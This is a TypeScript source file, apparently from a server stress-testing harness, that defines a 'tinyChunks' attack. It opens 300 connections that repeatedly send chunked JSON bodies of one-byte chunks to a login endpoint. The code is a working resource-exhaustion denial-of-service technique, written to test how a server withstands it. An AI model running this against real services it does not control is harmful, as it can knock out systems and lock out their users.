import { defineAttack } from './attack.ts';
import { openConnection, rawRequest } from './raw-connection.ts';

const CONNECTIONS = 300;
/** Chunks per request, each with one byte. */
const CHUNKS = 250_000;
const PIECE = 64 * 1024;

/** Sends JSON bodies in chunks of one byte. */
export const tinyChunks = defineAttack({
  summary: '300 anonymous connections send bodies in chunks of one byte',
  async run(target) {
    const { signal } = target;
    const headers = { 'content-type': 'application/json', 'transfer-encoding': 'chunked' };
    const head = rawRequest('/api/users/login', headers, 'POST');
    const body = Buffer.from('1\r\na\r\n'.repeat(CHUNKS));
    let closed = 0;

    async function attackFromOneConnection(): Promise<void> {
      while (!signal.aborted) {
        const socket = openConnection(target).resume();
        const closing = new Promise((resolve) => socket.once('close', resolve));
        socket.write(head);
        for (let i = 0; i < body.length && !socket.destroyed; i += PIECE) {
          if (socket.write(body.subarray(i, i + PIECE))) continue;
          const drained = new Promise((resolve) => socket.once('drain', resolve));
          await Promise.race([drained, closing]);
        }
        await closing;
        closed += signal.aborted ? 0 : 1;
      }
    }

    await Promise.all(Array.from({ length: CONNECTIONS }, attackFromOneConnection));
    return { closed };
  },
});
